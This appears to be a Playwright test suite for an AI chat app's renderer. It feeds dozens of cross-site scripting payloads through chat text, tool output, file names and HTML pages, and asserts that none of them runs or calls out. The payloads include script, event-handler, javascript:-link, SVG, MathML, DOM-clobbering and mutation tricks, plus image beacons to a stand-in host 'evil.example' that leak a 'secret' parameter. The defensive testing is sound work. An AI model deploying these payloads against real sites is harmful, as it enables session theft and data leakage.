"""Text of the model, of code, of files and of their names: none of it runs or leaves the origin.

A payload that gets through calls `pwned()` or asks `evil.example` for something. That both would be
noticed is shown on a page without walls.
"""

import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Locator, Route, expect

from local.azure_openai import CallTool, Say
from tests.conftest import SharedAzure
from tests.page.chat_page import ChatPage
from tests.page.conftest import OpenChat
from tests.support.functions_host import HostProcess

pytestmark = pytest.mark.asyncio(loop_scope="session")

THREAD = "f" * 32
IMG = '<img src="https://evil.example/i.png" onerror="pwned()">'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><script>pwned()</script></svg>'

# Name → text. Those with a star get through as HTML on a page without walls (the control).
ATTEMPTS = {
    "*image with a handler": IMG,
    "script": "<script>pwned()</script>",
    "script of another origin": "<script src=https://evil.example/x.js></script>",
    "svg with a handler": '<svg onload="pwned()"></svg>',
    "svg with a script": "<svg><script>pwned()</script></svg>",
    "svg that animates an address": "<svg><a><animate attributeName=href "
    'values="javascript:pwned()"/><text x=9 y=9>click</text></a></svg>',
    "*svg that uses another origin": '<svg><image href="https://evil.example/x.svg"/></svg>',
    "svg foreignObject": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    "mathml": '<math><maction actiontype="statusline#https://evil.example" '
    'xlink:href="javascript:pwned()">click</maction></math>',
    "*frame with a document": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "*frame of another origin": '<iframe src="https://evil.example/"></iframe>',
    "frame with a script address": '<iframe src="javascript:parent.pwned()"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.pdf">',
    "*details that open": "<details open ontoggle=pwned()>x</details>",
    "*video": '<video src="https://evil.example/v.mp4" onerror=pwned()></video>',
    "*audio": '<audio src="https://evil.example/a.mp3" onerror="pwned()"></audio>',
    "*focus by itself": '<input autofocus onfocus="pwned()">',
    "form": '<form action="https://evil.example/"><button>Send</button></form>',
    "form that clobbers": '<form id="location"><input name="href" value="x"></form>',
    "element that clobbers": '<a id="marked"></a><img name="cookie"><a id="body"></a>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "*style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "*style": "<style>body{background:url(https://evil.example/b.png)}</style>",
    "*style attribute": '<p style="background:url(https://evil.example/s.png);height:9px">x</p>',
    "animation event": '<b style="animation:x" onanimationstart="pwned()">x</b>',
    "template": f"<template>{IMG}</template>",
    "noscript": f'<noscript><p title="</noscript>{IMG}">',
    "comment that ends early": f"<!--><img src=x onerror=pwned()>--> <!-- --!>{IMG}-->",
    "cdata": f"<![CDATA[<{IMG}>]]>",
    "unclosed tag": '<img src=x onerror="pwned()" ',
    "upper case and slashes": "<ImG/src=x/OnErRoR=pwned()//>",
    "character references": "&lt;img src=x onerror=pwned()&gt; "
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{quote(IMG)}">',
    "nested quotes": f'<b title="`\'&quot;>{IMG}">x</b>',
    "link with a script": "[click](javascript:pwned())",
    "link with a script in disguise": "[click](\x01JaVa\tScRiPt:pwned()) "
    "[x](&#106;avascript:pwned())",
    "link with vbscript": "[click](vbscript:pwned())",
    "link with data": "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "link by reference": "[click][x]\n\n[x]: javascript:pwned()",
    "link by itself": '<javascript:pwned()> <https://evil.example/"onmouseover=pwned()>',
    "link with a handler in its title": '[x](https://evil.example "a\\" onmouseover=pwned() b")',
    "link to this app": "[click](/api/chat?input=spend) [x](/.auth/logout) [y](//evil.example)",
    "link to this app by name": "[click](@@ORIGIN@@/api/chat?input=spend)",
    "link that leaves a frame": '<a href="https://evil.example" target="_top" ping="/x">x</a>',
    "image of another origin": "![x](https://evil.example/leak.png?secret)",
    "image by reference": "![x][r]\n\n[r]: https://evil.example/leak.png",
    "image of this app": "![x](/api/chat?input=spend)",
    "image with a script": "![x](javascript:pwned())",
    "image that is data": f"![x](data:image/svg+xml,{quote(SVG)})",
    "image with a handler in its text": '![x" onerror="pwned()](https://evil.example/i.png)',
    "image of a file above": "![x](../../../../etc/passwd) ![y](sandbox:/mnt/data/../../x)",
    "table cell": f"| a | b |\n|---|---|\n| {IMG} | [x](javascript:pwned()) |",
    "code fence with a language": f'```"><img/src=x/onerror=pwned()>\n{IMG}\n```',
    "code span": f"`{IMG}` ``<script>pwned()</script>``",
    "heading": f"# {IMG}\n\n## [x](javascript:pwned())",
    "list and quote": f"- {IMG}\n> {SVG}",
    "right-to-left override": "[gnp.\u202e](https://evil.example/\u202egnp.exe)",
    "terminal sequences": f"\x1b]8;;javascript:pwned()\x07link\x1b]8;;\x07\x1b[31m{IMG}",
    "template expression": "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %>",
    "prototype": '{"__proto__": {"pwned": true}, "constructor": {"prototype": {}}}',
}


@dataclass
class Watch:
    """What a tab did that it must not do."""

    called: int = 0
    foreign: int = 0

    async def begin(self, page: Any) -> None:
        await page.expose_function("pwned", self._call)

        async def evil(route: Route) -> None:
            self.foreign += 1
            await route.abort()

        await page.route(lambda url: urlsplit(url).hostname == "evil.example", evil)
        page.on("dialog", self._call_with)

    def _call(self) -> None:
        self.called += 1

    async def _call_with(self, dialog: Any) -> None:
        self.called += 1
        await dialog.dismiss()

    @property
    def seen(self) -> int:
        return self.called + self.foreign


def stream_of(text: str, pages: int) -> str:
    """A turn that has the text wherever a turn has any, and shows so many pages of HTML."""
    names = [f"page-{n}.html" for n in range(pages)]
    file = {"media_type": "text/html", "size_bytes": 9}
    files = [
        file | {"name": text, "url": f"/api/conversations/{THREAD}/files/page-0"},
        *(file | {"name": n, "url": f"/api/conversations/{THREAD}/files/{n}"} for n in names),
        file
        | {
            "name": "x.svg",
            "url": f"data:image/svg+xml,{quote(SVG)}",
            "media_type": "image/svg+xml",
        },
        file | {"name": "out", "url": "https://evil.example/f.png", "media_type": "image/png"},
        file | {"name": "in", "url": "/api/chat?input=spend", "media_type": "image/png"},
    ]
    execution = {
        "code": text,
        "status": "Failed",
        "stdout": text,
        "stderr": text,
        "result": text,
        "duration_ms": 1,
        "outputs": [
            {"type": "text", "media_type": "text/plain", "text": text},
            {"type": "text", "media_type": "text/markdown", "text": text},
            *({"type": "html", "media_type": "text/html", "text": text, "file": n} for n in names),
            {"type": "image", "media_type": "image/png", "file": text},
        ],
    }
    parts = [
        {"type": "text", "text": json.dumps(execution)},
        {"type": "image", "source": {"type": "url", "value": "https://evil.example/part.png"}},
        {"type": "document", "source": {"type": "url", "value": "javascript:pwned()"}},
    ]
    use = {"name": text, "arguments": {}, "status": "Failed", "result": text, "duration_ms": 1}
    warning = {"code": text, "message": text}
    events: list[dict[str, Any]] = [
        {"type": "RUN_STARTED", "threadId": THREAD},
        {"type": "TEXT_MESSAGE_START", "messageId": "m"},
        *({"type": "TEXT_MESSAGE_CONTENT", "messageId": "m", "delta": c} for c in text),
        {"type": "TOOL_CALL_START", "toolCallId": "c", "toolCallName": "execute_python"},
        {"type": "TOOL_CALL_ARGS", "toolCallId": "c", "delta": json.dumps({"code": text})},
        *({"type": "CUSTOM", "name": "file", "value": value} for value in files),
        {"type": "TOOL_CALL_RESULT", "toolCallId": "c", "content": parts},
        {"type": "TOOL_CALL_START", "toolCallId": "t", "toolCallName": text},
        {"type": "TOOL_CALL_ARGS", "toolCallId": "t", "delta": json.dumps({text: text})},
        {"type": "TOOL_CALL_RESULT", "toolCallId": "t", "content": json.dumps(use)},
        {"type": "CUSTOM", "name": "warning", "value": warning},
        {"type": "TEXT_MESSAGE_CONTENT", "messageId": "n", "delta": text},
        {"type": "RUN_ERROR", "code": text, "message": text, "metadata": {"operation_id": text}},
    ]
    return "".join(f"data: {json.dumps(event)}\n\n" for event in events)


@dataclass
class Hostile:
    """The page, whose app answers with whatever text it is given."""

    chat: ChatPage
    watch: Watch
    text: str = ""
    pages: list[str] = field(default_factory=lambda: ["<p>harmless</p>"])


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def hostile(browser: Browser, host: HostProcess) -> AsyncIterator[Hostile]:
    page = await (await browser.new_context(reduced_motion="reduce")).new_page()
    made = Hostile(ChatPage(page, host.url), Watch())
    await made.watch.begin(page)

    async def answer(route: Route) -> None:
        body = stream_of(made.text, len(made.pages))
        await route.fulfill(content_type="text/event-stream", body=body)

    async def content(route: Route) -> None:
        if route.request.url.endswith("/files"):
            entry = {"name": made.text, "media_type": "text/csv", "size_bytes": 1, "url": "/x"}
            await route.fulfill(json={"files": [entry]})
        else:
            index = int(re.findall(r"page-(\d+)", route.request.url)[0])
            await route.fulfill(content_type="text/html", body=made.pages[index])

    await page.route("**/api/chat", answer)
    await page.route("**/api/conversations/**", content)
    await made.chat.load()
    yield made
    await page.context.close()


# Elements that the page never makes of anybody's text.
FORBIDDEN = """root => {
  const tags = "SCRIPT STYLE LINK META BASE OBJECT EMBED VIDEO AUDIO".split(" ");
  const attributes = "srcset ping action formaction xlink:href".split(" ");
  const isOutside = a => /^(https?:|mailto:)/.test(a.href) && a.host !== location.host
    && a.rel.includes("noopener") && a.target === "_blank";
  return [...root.querySelectorAll("*")].filter(e => tags.includes(e.tagName)
    || (e.tagName === "IFRAME" && e.getAttribute("sandbox") !== "")
    || (e.tagName === "IMG" && !/^(blob|data):/.test(e.src || "data:"))
    || (e.namespaceURI !== "http://www.w3.org/1999/xhtml" && !e.closest("svg.icon"))
    || [...e.attributes].some(a => a.name.startsWith("on") || attributes.includes(a.name))
    || (e.tagName === "A" && e.hasAttribute("href") && !isOutside(e))
  ).map(e => e.outerHTML.slice(0, 200));
}"""
TWO_FRAMES = "() => new Promise(d => requestAnimationFrame(() => requestAnimationFrame(d)))"


async def check(hostile: Hostile, turn: Locator) -> None:
    chat, page = hostile.chat, hostile.chat.page
    # What could load by itself has begun by then.
    await page.evaluate(TWO_FRAMES)
    assert await turn.evaluate(FORBIDDEN) == []
    assert (hostile.watch.called, hostile.watch.foreign) == (0, 0)
    assert chat.foreign_requests() == []
    assert not any("spend" in request.url for request in chat.requests)
    assert page.url == f"{chat.url}/api/ui#{THREAD}"
    chat.requests.clear()


async def show(hostile: Hostile, question: str) -> Locator:
    chat = hostile.chat
    await chat.page.get_by_role("button", name="New conversation").click()
    await chat.question.fill(question)
    await chat.question.press("Enter")
    await expect(chat.turns).to_have_count(1)
    turn = await chat.answered()
    await expect(turn.locator(".notice.error")).to_be_visible()
    return turn


@pytest.mark.parametrize("name", ATTEMPTS)
async def test_a_hostile_text_is_text(hostile: Hostile, name: str) -> None:
    hostile.text = ATTEMPTS[name].replace("@@ORIGIN@@", hostile.chat.url)
    turn = await show(hostile, hostile.text)
    await check(hostile, turn)
    # Not even the policy had anything to refuse.
    assert (hostile.chat.faults, hostile.chat.inert) == ([], [])


async def test_hostile_html_that_code_displayed_does_nothing(hostile: Hostile) -> None:
    relative = "<img src='/api/chat?input=spend'>"
    hostile.text = "harmless"
    hostile.pages = []
    for attempt in ATTEMPTS.values():
        text = attempt.replace("@@ORIGIN@@", hostile.chat.url)
        # With a table it is shown as one, without in a frame or as a file.
        cells = f"<table><tr><td>cell</td><td>{relative}{text}</td></tr></table>{text}"
        hostile.pages += [cells, relative + text]
    turn = await show(hostile, "Show them.")
    places = turn.locator(".html-output > div:has(td, iframe, .note)")
    await expect(places).to_have_count(len(hostile.pages))
    assert await turn.locator("iframe").count() > len(ATTEMPTS) / 2
    # A frame far from the screen is loaded late.
    await turn.locator("iframe").evaluate_all("all => all.forEach(f => { f.loading = 'eager'; })")
    for frame in hostile.chat.page.main_frame.child_frames:
        await frame.wait_for_url("about:srcdoc")
    await check(hostile, turn)
    assert hostile.chat.faults == []
    hostile.chat.inert.clear()


async def test_a_page_without_walls_shows_that_the_probe_would_be_noticed(browser: Browser) -> None:
    page = await browser.new_page()
    watch = Watch()
    await watch.begin(page)

    async def blank(route: Route) -> None:
        await route.fulfill(content_type="text/html", body="<!doctype html><body></body>")

    await page.route("http://control.example/", blank)
    for name, text in ATTEMPTS.items():
        if not name.startswith("*"):
            continue
        before = watch.seen
        await page.goto("http://control.example/")
        await page.evaluate("html => { document.body.innerHTML = html; }", text)
        for _ in range(1000):
            if watch.seen > before:
                break
            await page.wait_for_timeout(20)
        assert watch.seen > before, name
    before = watch.called
    click = '<a href="javascript:pwned()">x</a>'
    await page.evaluate("html => { document.body.innerHTML = html; }", click)
    await page.click("a")
    for _ in range(1000):
        if watch.called > before:
            break
        await page.wait_for_timeout(20)
    assert watch.called > before
    await page.close()


async def test_text_that_got_into_the_page_as_html_would_not_run(open_chat: OpenChat) -> None:
    """The last wall alone: the policy, as if the page's own code inserted what it was given."""
    chat = await open_chat()
    await chat.load()
    watch = Watch()
    await watch.begin(chat.page)
    attempts = [
        f"document.body.innerHTML = {IMG!r}",
        f"new DOMParser().parseFromString({IMG!r}, 'text/html')",
        "document.body.setAttribute('onclick', 'pwned()')",
        "document.createElement('script').src = 'https://evil.example/x.js'",
        "document.createElement('iframe').srcdoc = '<script>parent.pwned()</script>'",
    ]
    for attempt in attempts:
        caught = "() => { try { %s; } catch (error) { return error.name; } }"
        assert await chat.page.evaluate(caught % attempt) == "TypeError", attempt
    image = "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/i'}))"
    async with chat.page.expect_console_message(lambda m: "img-src" in m.text):
        await chat.page.evaluate(image)
    assert (watch.called, watch.foreign) == (0, 0)
    chat.faults.clear()


async def test_what_code_really_printed_displayed_and_named_is_text(
    open_chat: OpenChat, azure: SharedAzure
) -> None:
    chat = await open_chat()
    await chat.load()
    watch = Watch()
    await watch.begin(chat.page)
    texts = list(ATTEMPTS.values())
    code = f"""
import pathlib
from IPython.display import HTML, display
texts = {texts!r}
for n, text in enumerate(texts):
    name = text.replace("/", "_").replace("\\0", "")[:60].strip() or "x"
    try:
        pathlib.Path("/mnt/data", f"{{n}} {{name}}.csv").write_text(f"a,{{text}}\\n1,{{text}}\\n")
    except OSError:
        pass
    print(text)
pathlib.Path("/mnt/data/a.csv").write_text("\\n".join(texts))
display(HTML("".join(texts)))
raise ValueError(texts)
"""
    with azure.model.script(CallTool(code=code), Say("\n\n".join(texts))):
        turn = await chat.ask("Go.")
    await expect(turn.locator(".output-error")).to_be_visible()
    await chat.page.get_by_role("button", name="Files (").click()
    panel = chat.page.locator(".files-panel")
    await panel.get_by_role("button", name=re.compile(r"^Preview a\.csv")).click()
    await expect(chat.page.locator("dialog td").first).to_be_visible()
    await chat.page.reload()
    await expect(chat.turns).to_have_count(1)
    await expect(chat.last.locator(".output-error")).to_be_visible()
    assert await chat.page.locator(".thread").evaluate(FORBIDDEN) == []
    assert (watch.called, watch.foreign) == (0, 0)
    assert chat.foreign_requests() == []
